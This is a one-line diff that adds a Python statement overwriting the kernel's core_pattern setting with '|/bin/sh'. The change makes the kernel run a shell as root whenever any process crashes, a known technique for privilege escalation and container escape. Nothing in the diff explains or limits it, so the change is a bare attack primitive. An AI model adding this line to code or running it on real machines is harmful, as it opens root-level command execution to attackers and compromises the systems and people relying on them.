@@ -1,0 +1,1 @@
+open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')
